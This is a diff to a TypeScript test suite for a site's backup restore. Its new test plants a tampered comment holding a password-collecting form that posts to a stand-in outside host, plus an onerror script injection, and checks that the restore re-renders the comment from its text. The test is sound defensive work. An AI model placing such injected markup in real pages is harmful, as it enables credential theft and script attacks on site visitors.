@@ -15,7 +15,8 @@ import { json, startTestApp, type TestApp } from "./support/test-app.ts";
  * What a restore does on a bad day (docs/backups.md, "Backups"): a backup whose tables are
  * not what its migrations say is refused before anything changes (it was put in place,
  * and the restore failed half way on it, the console's sessions not ended); one an older
- * version made is migrated and served; what was deleted since the backup is named.
+ * version made is migrated and served; one cut short is refused; a comment's HTML is
+ * rendered again from its text; what was deleted since the backup is named.
  */
 
 const folder = () => mkdtempSync(path.join(os.tmpdir(), "ewe-restore-checked-"));
@@ -168,6 +169,31 @@ it("refuses a backup cut short, by half or by one byte, saying so, and changes n
   const again = await startTestApp("sqlite", { dataDir: site.dataDir, env });
   try {
     expect(await commentsOn(again, "soap")).toEqual(["before the backup", "after the backup"]);
+  } finally {
+    await again.close();
+  }
+});
+
+it("renders a restored comment's HTML again from its text: a backup's own is shown as it is", async () => {
+  const { site, backup } = await siteWithBackup();
+  {
+    using planted = new DatabaseSync(backup);
+    planted.exec(
+      `update science_comments set content_html = '<p>before the backup</p><form action="https://elsewhere.example/"><input name="password"></form><img src=x onerror="alert(1)">'`,
+    );
+  }
+  const run = await admin({ ...adminEnv(site), ...env }, "restore", "--from", backup);
+  expect(run.code).toBe(0);
+  expect(run.stdout).toContain(
+    "1 comment in the backup had HTML other than its text renders to (rendered by an earlier version, changed by hand, or not one of the site's backups): rendered again from its text.\n",
+  );
+  const again = await startTestApp("sqlite", { dataDir: site.dataDir, env });
+  try {
+    const { comments } = json(
+      await again.visitor().get("/api/items/science/soap/comments"),
+      commentsResponseSchema,
+    );
+    expect(comments.map((c) => c.html)).toEqual(["<p>before the backup</p>"]);
   } finally {
     await again.close();
   }
